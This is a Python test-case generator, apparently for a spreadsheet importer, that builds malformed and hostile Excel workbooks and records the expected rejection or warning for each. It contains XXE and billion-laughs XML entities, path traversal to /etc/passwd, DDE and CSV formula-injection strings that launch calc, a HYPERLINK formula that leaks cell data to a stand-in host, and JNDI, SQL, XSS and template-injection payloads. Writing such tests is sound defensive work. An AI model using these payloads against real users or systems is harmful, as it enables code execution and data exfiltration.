"""Hostile and damaged workbooks: what stands in the sheets, names, styles and links.

In: a sound survey. Out: Cases: stray cells, odd rows, wrong references, dangerous XML, things that
are never run, numbers and texts no cell should hold, formulas where a text is wanted.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

from hostile_case import (
    ABOUT,
    COMMENT,
    OWN,
    OWN_ROW,
    SHEET,
    TABLE,
    Case,
    Make,
    adding,
    in_part,
    in_sheet,
    linked,
    rejected,
    sound,
    survey,
)
from returned_files import packed, sent_file, sheet_part, unpacked

BOOK = "xl/workbook.xml"
SHEET_PART = "xl/worksheets/sheet2.xml"
EMPTY = '<c r="D5" s="29"/>'
END_OF_CELLS = "</sheetData>"
MILLION = 1_000_000


def workbooks() -> Iterator[Case]:
    """Every case of this kind."""
    yield from _far_away()
    yield from _rows_and_cells()
    yield from _markup()
    yield from _numbers()
    yield from _texts()
    yield from _left_alone()
    yield from _merges_names_styles()


def put(name: str, old: str, new: str) -> bytes:
    """A survey with a text of its sheet's XML replaced."""
    return in_sheet(survey(name), old, new)


def more_rows(name: str, xml: str) -> bytes:
    """A survey with rows below the last one."""
    return put(name, END_OF_CELLS, xml + END_OF_CELLS)


# --- far away ---------------------------------------------------------------------------------


def _far_away() -> Iterator[Case]:
    for at, row in (("XFD1048576", 1048576), ("AZ1048576", 1048576), ("XFD5", 5), ("SG31", 31),
                    ("A20001", 20001)):  # fmt: skip
        name = f"celle-{at}.xlsx"
        xml = f'<row r="{row}"><c r="{at}"><v>1</v></c></row>'
        yield rejected(name, more_rows(name, xml), "sheet-too-large")
    name = "celle-tom-XFD1048576.xlsx"
    yield sound(name, more_rows(name, '<row r="1048576"><c r="XFD1048576" s="29"/></row>'))
    name = "celle-SF20000.xlsx"
    xml = '<row r="20000"><c r="SF20000"><v>1</v></c></row>'
    yield rejected(name, more_rows(name, xml), "sheet-too-spread")
    name = "celle-SF1000.xlsx"
    yield sound(name, more_rows(name, '<row r="1000"><c r="SF1000"><v>1</v></c></row>'))
    name = "celle-A20000.xlsx"
    yield sound(name, more_rows(name, '<row r="20000"><c r="A20000"><v>1</v></c></row>'))
    name = "celle-annen-rad.xlsx"
    xml = '<row r="40"><c r="A1048576"><v>1</v></c></row>'
    yield rejected(name, more_rows(name, xml), "sheet-too-large")
    for told in ("A1:XFD1048576", "A1", "Z99:A1", "A1:B2", "A1:A99999999999"):
        name = f"mål-{told.replace(':', '-')}.xlsx"
        yield sound(name, put(name, 'dimension ref="A1:E30"', f'dimension ref="{told}"'))
    for told in ("tull", ""):
        name = f"mål-{told.replace(':', '-') or 'tomt'}.xlsx"
        made = put(name, 'dimension ref="A1:E30"', f'dimension ref="{told}"')
        yield rejected(name, made, "file-damaged")
    name = "mål-borte.xlsx"
    yield sound(name, put(name, '<dimension ref="A1:E30"/>', ""))
    name = "million-celler.xlsx"
    yield rejected(name, _many_cells(name), "sheet-too-large", heavy=True)


def _many_cells(name: str) -> Make:
    """A million cells and some, each with a number of its own."""

    def make(path: Path) -> None:
        letters = (f"{a}{b}" for a in ("", "A", "B") for b in "GHIJKLMNOPQRSTUVWXYZ")
        columns = [(n * 997 + 3, column) for n, column in enumerate(letters)][:51]
        cell = '<c r="{}{}"><v>{}</v></c>'
        rows = (
            f'<row r="{n}">{"".join(cell.format(c, n, n * k % 65_521) for k, c in columns)}</row>'
            for n in range(40, 19_990)
        )
        path.write_bytes(more_rows(name, "".join(rows)))

    return make


# --- rows and cells ---------------------------------------------------------------------------

NO_CELLS = {
    "celle-uten-kolonne.xlsx": '<c r="5" s="29"><v>4</v></c>',
    "celle-uten-rad.xlsx": '<c r="D" s="29"><v>4</v></c>',
    "celle-rad-null.xlsx": '<c r="D0" s="29"><v>4</v></c>',
    "celle-rad-minus.xlsx": '<c r="D-5" s="29"><v>4</v></c>',
    "celle-rad-svær.xlsx": '<c r="D99999999999999999999" s="29"><v>4</v></c>',
    "celle-kolonne-svær.xlsx": '<c r="ABCDEFGHIJ5" s="29"><v>4</v></c>',
    "celle-kyrillisk.xlsx": '<c r="Ф5" s="29"><v>4</v></c>',
    "celle-små-bokstaver-tull.xlsx": '<c r="d5x" s="29"><v>4</v></c>',
}


def _rows_and_cells() -> Iterator[Case]:
    for name, xml in NO_CELLS.items():
        far = name in ("celle-rad-svær.xlsx", "celle-rad-null.xlsx")
        reason = "sheet-too-large" if far else "file-damaged"
        yield rejected(name, put(name, EMPTY, xml), reason)
    for name, old, new in (
        ("rad-ikke-tall.xlsx", '<row r="5" ', '<row r="fem" '),
        ("rad-brøk.xlsx", '<row r="5" ', '<row r="5.5" '),
    ):
        yield rejected(name, put(name, old, new), "file-damaged")
    name = "uten-cellereferanser.xlsx"
    data = survey(name, E5="Uten referanser")
    for column in "ABCDE":
        data = in_sheet(data, f'<c r="{column}5"', "<c")
    yield sound(name, data, E5="Uten referanser")
    name = "rader-i-feil-rekkefølge.xlsx"
    yield sound(name, _shuffled(survey(name, E5="Først", E15="Sist")), E5="Først", E15="Sist")
    name = "to-av-samme-celle.xlsx"
    twice = '<c r="D5" s="29"><v>4</v></c><c r="D5" s="29"><v>2</v></c>'
    yield sound(name, put(name, EMPTY, twice), "cell-twice", D5="2")
    name = "to-like-av-samme-celle.xlsx"
    twice = '<c r="D5" s="29"><v>4</v></c><c r="D5" s="29"><v>4</v></c>'
    yield sound(name, put(name, EMPTY, twice), "cell-twice", D5="4")
    for number in ("9999", "-1", "tull", "1.5", "١", "1&#120;", "1 ", ""):
        name = f"delt-tekst-{number.replace(';', '') or 'tom'}.xlsx"
        xml = f'<c r="D5" s="29" t="s"><v>{number}</v></c>'
        yield _shared(name, put(name, EMPTY, xml), number)
    name = "ukjent-celletype.xlsx"
    xml = '<c r="D5" s="29" t="tull"><v>4</v></c>'
    yield rejected(name, put(name, EMPTY, xml), "file-damaged")
    name = "ukjent-stil.xlsx"
    yield sound(name, put(name, EMPTY, '<c r="D5" s="999999"><v>4</v></c>'), D5="4")
    name = "to-ark-med-samme-navn.xlsx"
    data = in_part(survey(name), BOOK, 'name="Lister"', f'name="{SHEET}"')
    yield rejected(name, data, "file-damaged")
    name = "ark-uten-del.xlsx"
    data = in_part(survey(name), "xl/_rels/workbook.xml.rels", "sheet2.xml", "sheet99.xml")
    yield rejected(name, data, "file-damaged")
    name = "ark-utenfor.xlsx"
    data = in_part(survey(name), "xl/_rels/workbook.xml.rels", "worksheets/sheet2.xml",
                   "../../../etc/passwd")  # fmt: skip
    yield rejected(name, data, "file-damaged")
    name = "ark-er-stiler.xlsx"
    data = in_part(survey(name), "xl/_rels/workbook.xml.rels", "worksheets/sheet2.xml",
                   "styles.xml")  # fmt: skip
    yield rejected(name, data, "file-damaged")


def _shared(name: str, data: bytes, number: str) -> Case:
    return rejected(name, data, "file-damaged") if number else sound(name, data)


def _shuffled(data: bytes) -> bytes:
    """The rows of the sheet from last to first."""
    parts = unpacked(data)
    text = parts[SHEET_PART].decode()
    start, end = text.index("<sheetData>") + 11, text.index(END_OF_CELLS)
    rows = [f"<row {row}" for row in text[start:end].split("<row ")[1:]]
    parts[SHEET_PART] = (text[:start] + "".join(reversed(rows)) + text[end:]).encode()
    return packed(parts)


# --- markup -----------------------------------------------------------------------------------

XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
REMOTE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>'


def _markup() -> Iterator[Case]:
    parts = {"ark": SHEET_PART, "bok": BOOK, "tekster": "xl/sharedStrings.xml",
             "egenskaper": "docProps/custom.xml"}  # fmt: skip
    for where, part in parts.items():
        for kind, declared in (("xxe", XXE), ("latter", LAUGHS)):
            name = f"dtd-{kind}-{where}.xlsx"
            yield rejected(name, _declared(survey(name), part, declared), "file-doctype")
    for kind, declared in (("fjern", REMOTE), ("parameter", PARAMETER)):
        name = f"dtd-{kind}.xlsx"
        yield rejected(name, _declared(survey(name), SHEET_PART, declared), "file-doctype")
    name = "dtd-utf16.xlsx"
    xml = f"{XXE}<worksheet/>".encode("utf-16")
    yield rejected(name, adding(survey(name), {SHEET_PART: xml}), "file-doctype")
    name = "entitet-uten-dtd.xlsx"
    xml = '<c r="D5" t="str"><v>&amp;e;</v></c>'.replace("&amp;e;", "&e;")
    yield rejected(name, put(name, EMPTY, xml), "file-damaged")
    name = "dypt-ark.xlsx"
    deep = "<a>" * 300 + "</a>" * 300
    yield rejected(name, put(name, END_OF_CELLS, f"{END_OF_CELLS}{deep}"), "file-too-deep")
    name = "dypt-bok.xlsx"
    data = in_part(survey(name), BOOK, "<sheets>", "<a>" * 100_000 + "<sheets>")
    yield rejected(name, data, "file-bomb")
    name = "dyp-bok-lukket.xlsx"
    data = in_part(survey(name), BOOK, "<sheets>", f"{'<a>' * 300}{'</a>' * 300}<sheets>")
    yield rejected(name, data, "file-too-deep")
    name = "svært-attributt.xlsx"
    long = "".join(f"{n:x}" for n in range(300_000))
    yield sound(name, put(name, EMPTY, f'<c r="D5" x="{long}"><v>4</v></c>'), D5="4")
    name = "mange-attributter.xlsx"
    many = " ".join(f'a{n}="{n}"' for n in range(20_000))
    yield sound(name, put(name, EMPTY, f'<c r="D5" {many}><v>4</v></c>'), D5="4")
    for name, bad in BAD_BYTES.items():
        data = survey(name)
        parts = unpacked(data)
        parts[SHEET_PART] = parts[SHEET_PART].replace(EMPTY.encode(), bad)
        yield rejected(name, packed(parts), "file-damaged")
    for code in ("utf-16", "latin-1", "ascii"):
        name = f"ark-i-{code}.xlsx"
        yield _encoded(name, code)
    name = "ark-med-bom.xlsx"
    parts = unpacked(survey(name, E5="Æ"))
    yield sound(name, packed(parts | {SHEET_PART: b"\xef\xbb\xbf" + parts[SHEET_PART]}), E5="Æ")
    name = "ark-med-utf7.xlsx"
    parts = unpacked(survey(name))
    head, body = b'<?xml version="1.0" encoding="UTF-7"?>', parts[SHEET_PART].partition(b"?>")
    yield rejected(name, packed(parts | {SHEET_PART: head + (body[2] or body[0])}), "file-damaged")
    name = "annet-prefiks.xlsx"
    yield rejected(name, put(name, EMPTY, '<y:c xmlns:y="urn:y" r="XFD1048576"><y:v>1</y:v></y:c>'),
                   "sheet-too-large")  # fmt: skip
    name = "behandlingsinstruks.xlsx"
    yield sound(name, put(name, "<sheetData>", '<?php system("id")?><!-- x --><sheetData>'))
    name = "cdata.xlsx"
    xml = '<c r="E5" t="inlineStr"><is><t><![CDATA[<b>hei</b>]]></t></is></c>'
    yield sound(name, put(name, '<c r="E5" s="29"/>', xml), E5="<b>hei</b>")


BAD_BYTES = {
    "ugyldig-utf8.xlsx": b'<c r="D5" t="str"><v>\xff\xfe\xfd</v></c>',
    "halv-utf8.xlsx": b'<c r="D5" t="str"><v>\xe2\x82</v></c>',
    "surrogat.xlsx": b'<c r="D5" t="str"><v>\xed\xa0\x80</v></c>',
    "nulltegn.xlsx": b'<c r="D5" t="str"><v>a\x00b</v></c>',
    "nulltegn-tall.xlsx": b'<c r="D5" t="str"><v>a&#0;b</v></c>',
    "kontrolltegn.xlsx": b'<c r="D5" t="str"><v>a\x01b</v></c>',
    "ulukket.xlsx": b'<c r="D5"><v>4</c>',
    "to-like-attributter.xlsx": b'<c r="D5" r="D6"><v>4</v></c>',
}


def _declared(data: bytes, part: str, declared: str) -> bytes:
    text = unpacked(data)[part].decode()
    end = text.find("?>") + 2 if text.startswith("<?xml") else 0
    return adding(data, {part: (text[:end] + declared + text[end:]).encode()})


def _encoded(name: str, code: str) -> Case:
    """The sheet in another encoding, declared so."""
    parts = unpacked(survey(name, E5="Ærlig"))
    text = parts[SHEET_PART].decode()
    head = f'<?xml version="1.0" encoding="{code}"?>'
    body = text.partition("?>")[2] if text.startswith("<?xml") else text
    data = packed(parts | {SHEET_PART: (head + body).encode(code, "xmlcharrefreplace")})
    if code == "latin-1":  # no encoding of Office files
        return rejected(name, data, "file-damaged")
    return sound(name, data, E5="Ærlig")


# --- numbers and values -----------------------------------------------------------------------

ODD_NUMBERS = {
    "tall-nan.xlsx": ("<v>NaN</v>", "option-unknown"),
    "tall-inf.xlsx": ("<v>INF</v>", "option-unknown"),
    "tall-minus-inf.xlsx": ("<v>-INF</v>", "option-unknown"),
    "tall-1e400.xlsx": ("<v>1e400</v>", "option-unknown"),
    "tall-minus-1e400.xlsx": ("<v>-1e400</v>", "option-unknown"),
    "tall-tekst.xlsx": ("<v>fire</v>", "option-unknown"),
    "tall-komma.xlsx": ("<v>4,5</v>", "option-unknown"),
    "tall-to-verdier.xlsx": ("<v>4</v><v>2</v>", "cell-twice"),
}


def _numbers() -> Iterator[Case]:
    for name, (inner, code) in ODD_NUMBERS.items():
        yield sound(name, put(name, EMPTY, f'<c r="D5" s="29">{inner}</c>'), code)
    for name, inner in (
        ("tall-0.xlsx", "<v>0</v>"),
        ("tall-minus.xlsx", "<v>-3</v>"),
        ("tall-1e308.xlsx", "<v>1e308</v>"),
        ("tall-5e-324.xlsx", "<v>5e-324</v>"),
        ("tall-mange-siffer.xlsx", f"<v>{'9' * 300}</v>"),
    ):
        yield sound(name, put(name, EMPTY, f'<c r="D5" s="29">{inner}</c>'), "option-unknown")
    for kind, value in (("sann", "1"), ("usann", "0")):
        name = f"sannhet-{kind}.xlsx"
        yield sound(name, put(name, EMPTY, f'<c r="D5" s="29" t="b"><v>{value}</v></c>'))
    for error in ("#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"):
        letters = "".join(letter for letter in error if letter.isalnum())
        name = f"feilverdi-{letters}.xlsx"
        xml = f'<c r="D5" s="29" t="e"><v>{error}</v></c>'
        yield sound(name, put(name, EMPTY, xml), "cell-error", D5=None)
    name = "feilverdi-ukjent.xlsx"
    xml = '<c r="D5" s="29" t="e"><v>#TULL!</v></c>'
    yield rejected(name, put(name, EMPTY, xml), "file-damaged")
    name = "formel-uten-verdi.xlsx"
    xml = '<c r="D5" s="29"><f>1+3</f></c>'
    yield sound(name, put(name, EMPTY, xml), "cell-uncomputed")
    name = "formel-med-verdi.xlsx"
    yield sound(name, put(name, EMPTY, '<c r="D5" s="29"><f>1+3</f><v>4</v></c>'), D5="4")
    name = "formel-lang.xlsx"
    xml = f'<c r="D5" s="29"><f>{"1+" * 4_000}1</f><v>4</v></c>'
    yield sound(name, put(name, EMPTY, xml), D5="4")
    for written in ("NaN", "INF", "1e400"):
        name = f"måling-{written}.xlsx"
        yield Case(name, _measured(written), told=frozenset({"number-unread"}), values={})
    for written in ("12", "12.5", "1e308"):
        name = f"måling-{written}.xlsx"
        spot = ("measurements", "b01-un01-00", "f.measured_value")
        yield Case(name, _measured(written), values={spot: float(written)})
    yield from _days()


def _measured(written: str) -> bytes:
    """The benefits workbook with a number measured."""
    data = sent_file("benefits", "xlsx")
    style = unpacked(data)[sheet_part(data, "Målinger")].decode().partition('<c r="F5" s="')[2]
    empty = f'<c r="F5" s="{style.partition(chr(34))[0]}"/>'
    return in_sheet(data, empty, empty.replace("/>", f"><v>{written}</v></c>"), "Målinger")


def _days() -> Iterator[Case]:
    """Days in the cell for the date: serial numbers no calendar has, and the later epoch."""
    for serial in ("-1", "0", "60", "2958466", "99999999", "1e20"):
        name = f"dato-{serial}.xlsx"
        yield sound(name, _dated(survey(name), serial))
    name = "dato-1904.xlsx"
    data = in_part(survey(name), BOOK, "<workbookPr/>", '<workbookPr date1904="1"/>')
    spot = ("info", "", "f.filled_date")
    case = sound(name, _dated(data, "44656"))
    yield Case(name, case.data, values={**case.values, spot: date(2026, 4, 6)})
    name = "dato-1900.xlsx"
    case = sound(name, _dated(survey(name), "46118"))
    yield Case(name, case.data, values={**case.values, spot: date(2026, 4, 6)})


def _dated(data: bytes, serial: str) -> bytes:
    part = sheet_part(data, ABOUT)
    text = unpacked(data)[part].decode()
    at = text.index('r="B14"')
    end = text.index("/>", at)
    return adding(data, {part: (text[:end] + f"><v>{serial}</v></c>" + text[end + 2 :]).encode()})


# --- texts ------------------------------------------------------------------------------------

INJECTED = {
    "likhetstegn": "=1+1",
    "kall": "=cmd|'/c calc'!A0",
    "lenke": '=HYPERLINK("http://x.example/?"&A1,"Klikk")',
    "pluss": "+47 12345678",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "krøllalfa": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tabulator": "\t=1+1",
    "vognretur": "&#13;=1+1",
    "linjeskift": "hei\n=1+1",
    "anførsel": '"=1+1"',
    "apostrof": "'=1+1",
    "webtjeneste": '=WEBSERVICE("http://127.0.0.1:9/x")',
    "skript": "<script>alert(1)</script>",
    "mal": "{{ 7*7 }}{% for x in y %}",
    "sql": "'); DROP TABLE cells;--",
    "sti": "../../etc/passwd",
    "format": "{0.__class__} %s %n ${jndi:ldap://127.0.0.1/x}",
}


def _texts() -> Iterator[Case]:
    for kind, text in INJECTED.items():
        name = f"innsprøyting-{kind}.xlsx"
        shown = text.replace("&#13;", "\r")
        yield sound(name, _said(name, text), **({} if kind in TRIMMED else {"E5": shown}))
    for kind, text, told in (
        ("escape", "_x001B_[2Jvekk", "text-cleaned"),
        ("bjelle", "_x0007_ring", "text-cleaned"),
    ):
        name = f"tekst-{kind}.xlsx"
        yield sound(name, _said(name, text), told)
    name = "tekst-retning.xlsx"
    yield sound(name, _said(name, "\u202etxet netdaV"), E5="\u202etxet netdaV")
    for size in (32_767, 32_768, 300_000):
        name = f"tekst-{size}.xlsx"
        text = "".join(f"{n:05x} " for n in range(size // 6 + 1))[: size - 1] + "x"
        yield sound(name, _said(name, text), E5=text)
    name = "tekst-ti-millioner.xlsx"
    made = _written(lambda: _said("tekst-ti-millioner.xlsx", _ten_million()))
    yield Case(name, made, values={(TABLE, OWN_ROW, COMMENT): OWN + name}, heavy=True)
    name = "tekst-emoji.xlsx"
    yield sound(name, _said(name, "👩‍👩‍👧 bra 🎉"), E5="👩‍👩‍👧 bra 🎉")


TRIMMED = frozenset({"tabulator", "vognretur"})


def _ten_million() -> str:
    return "".join(f"{n * 7919 % 1_048_576:05x} " for n in range(10_000_000 // 6))


def _written(made: Callable[[], bytes]) -> Make:
    """What takes long to make is made when it is written."""

    def make(path: Path) -> None:
        path.write_bytes(made())

    return make


def _said(name: str, text: str) -> bytes:
    escaped = text if "&#13;" in text else text.replace("&", "&amp;").replace("<", "&lt;")
    xml = f'<c r="E5" s="29" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'
    return put(name, '<c r="E5" s="29"/>', xml)


# --- what is never run or followed ------------------------------------------------------------

RELS = "xl/_rels/workbook.xml.rels"
SHEET_RELS = "xl/worksheets/_rels/sheet2.xml.rels"
XML = b"<x/>"


def _left_alone() -> Iterator[Case]:
    parts = {
        "makroer": ("xl/vbaProject.bin", "has-macros"),
        "makroark": ("xl/macrosheets/sheet1.xml", "has-macros"),
        "eksterne-lenker": ("xl/externalLinks/externalLink1.xml", "has-external-links"),
        "tilkoblinger": ("xl/connections.xml", "has-connections"),
        "spørring": ("xl/queryTables/queryTable1.xml", "has-connections"),
        "ole": ("xl/embeddings/oleObject1.bin", "has-objects"),
        "activex": ("xl/activeX/activeX1.xml", "has-objects"),
    }
    for kind, (part, code) in parts.items():
        name = f"har-{kind}.xlsx"
        yield sound(name, adding(survey(name), {part: XML}), code)
    name = "har-dde.xlsx"
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield sound(name, adding(survey(name), {"xl/externalLinks/externalLink1.xml": dde}), "has-dde")
    name = "har-dde-formel.xlsx"
    xml = '<c r="D5" s="29"><f>cmd|\'/c calc\'!A0</f><v>4</v></c>'
    yield sound(name, put(name, EMPTY, xml), "has-dde", D5="4")
    links = {
        "hyperlenke-fil": ("hyperlink", "file:///C:/Windows/System32/calc.exe", "has-file-links"),
        "hyperlenke-tjener": ("hyperlink", "\\\\192.0.2.1\\del\\x", "has-file-links"),
        "fjernt-bilde": ("image", "http://127.0.0.1:9/x.png", "has-remote-parts"),
        "fjernt-objekt": ("oleObject", "http://127.0.0.1:9/x", "has-remote-parts"),
    }
    for kind, (type, target, code) in links.items():
        name = f"har-{kind}.xlsx"
        yield sound(name, linked(survey(name), SHEET_RELS, type, target), code)
    name = "har-hyperlenke-nett.xlsx"
    data = linked(survey(name), SHEET_RELS, "hyperlink", "https://example.org/")
    case = sound(name, data)
    yield case
    for state, code in (("veryHidden", "has-hidden-sheet"), ("hidden", "")):
        name = f"ark-{state}.xlsx"
        data = in_part(survey(name), BOOK, f'name="{SHEET}"', f'name="{SHEET}" state="{state}"')
        yield sound(name, data, *filter(None, [code]))


# --- merges, names, styles --------------------------------------------------------------------


def _merges(count: int, area: str = "") -> str:
    inner = "".join(f'<mergeCell ref="{area or f"G{n}:H{n}"}"/>' for n in range(1, count + 1))
    return f'{END_OF_CELLS}<mergeCells count="{count}">{inner}</mergeCells>'


def _merges_names_styles() -> Iterator[Case]:
    name = "flettinger-5001.xlsx"
    yield rejected(name, put(name, END_OF_CELLS, _merges(5_001)), "sheet-too-many-merges")
    name = "flettinger-4900.xlsx"
    yield sound(name, put(name, END_OF_CELLS, _merges(4_900)))
    name = "flettinger-million.xlsx"
    made = _written(lambda: put("x", END_OF_CELLS, _merges(MILLION)))
    yield rejected(name, made, "sheet-too-many-merges", heavy=True)
    name = "fletting-alt.xlsx"
    yield sound(name, put(name, END_OF_CELLS, _merges(1, "A1:XFD1048576")), "cells-merged")
    name = "fletting-alt-mange.xlsx"
    yield sound(name, put(name, END_OF_CELLS, _merges(4_000, "A1:XFD1048576")), "cells-merged")
    name = "fletting-tull.xlsx"
    yield rejected(name, put(name, END_OF_CELLS, _merges(1, "tull")), "file-damaged")
    name = "navn-20000.xlsx"
    yield sound(name, _named(name, 19_000))
    name = "navn-for-mange.xlsx"
    yield rejected(name, _named(name, 20_001), "file-too-many-names")
    name = "navn-million.xlsx"
    made = _written(lambda: _named("x", MILLION))
    yield rejected(name, made, "file-too-many-names", heavy=True)
    name = "navn-i-ring.xlsx"
    ring = '<definedName name="a">b</definedName><definedName name="b">a</definedName>'
    yield sound(name, _defined(name, ring))
    name = "ark-251.xlsx"
    yield rejected(name, _sheets(name, 251), "file-too-many-sheets")
    name = "stiler-65000.xlsx"
    xfs = "".join(f'<xf numFmtId="{n * 7919 % 65_521}"/>' for n in range(65_000))
    data = in_part(survey(name), "xl/styles.xml", "</cellXfs>", f"{xfs}</cellXfs>")
    yield sound(name, data)
    name = "stiler-borte.xlsx"
    parts = {n: part for n, part in unpacked(survey(name)).items() if n != "xl/styles.xml"}
    yield sound(name, packed(parts))
    name = "tekster-lyver-om-antall.xlsx"
    parts = unpacked(survey(name))
    text = parts["xl/sharedStrings.xml"].decode()
    start, end = text.index("<sst"), text.index(">", text.index("<sst"))
    head = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    head += 'count="4000000000" uniqueCount="4000000000"'
    parts["xl/sharedStrings.xml"] = (text[:start] + head + text[end:]).encode()
    yield rejected(name, packed(parts), "file-damaged")


def _defined(name: str, xml: str) -> bytes:
    data = survey(name)
    old = "<definedNames>"
    if old in unpacked(data)[BOOK].decode():
        return in_part(data, BOOK, old, old + xml)
    return in_part(data, BOOK, "</sheets>", f"</sheets><definedNames>{xml}</definedNames>")


def _named(name: str, count: int) -> bytes:
    one = '<definedName name="n{}_{}">{}</definedName>'
    numbers = ((n, n * 7919 % 65_521, n * 104_729 % 99_991) for n in range(count))
    return _defined(name, "".join(one.format(*each) for each in numbers))


def _sheets(name: str, count: int) -> bytes:
    more = "".join(f'<sheet name="a{n}" sheetId="{n + 10}" r:id="rId1"/>' for n in range(count))
    return in_part(survey(name), BOOK, "</sheets>", f"{more}</sheets>")
